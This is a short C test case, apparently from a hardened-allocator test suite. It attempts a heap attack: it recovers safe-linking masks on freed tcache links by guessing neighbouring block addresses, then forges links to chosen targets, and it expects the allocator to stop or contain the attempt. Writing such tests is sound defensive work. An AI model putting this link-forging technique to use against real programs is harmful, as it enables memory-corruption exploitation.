//! attack: the link's encoding computed from what a stale read shows, then forged exactly
//! outcome: stop or held
//! variants: 72
//! technique: decrypt_safe_linking, then tcache_poisoning
#include "../remote.h"

// Whatever was exclusive-ored into a link is its word ^ the next block. The attacker knows the order of the frees.
int main(int argc, char** argv) {
  begin(argc, argv);
  size = sizes[variant % 4];
  uint64_t* victim = get(size);
  uint64_t* waiting_locally = get(size);
  give_away();
  put(waiting_locally);
  for (int i = 0; i < kBlocks; ++i) {
    const uint64_t guesses[] = {i > 0 ? (uint64_t)blocks[i - 1] : 0, i + 1 < kBlocks ? (uint64_t)blocks[i + 1] : 0, 0};
    const uint64_t mask = blocks[i][0] ^ guesses[variant / 4 % 3];
    const uint64_t targets[] = {(uint64_t)target_area, (uint64_t)victim, (uint64_t)victim + 16, (uint64_t)blocks[i],
                                (uint64_t)waiting_locally, (uint64_t)blocks[(i + 7) % kBlocks]};
    if (i % 5 == 2) blocks[i][0] = mask ^ targets[variant / 12];
  }
  take_in();
  put(victim);
  held();
}
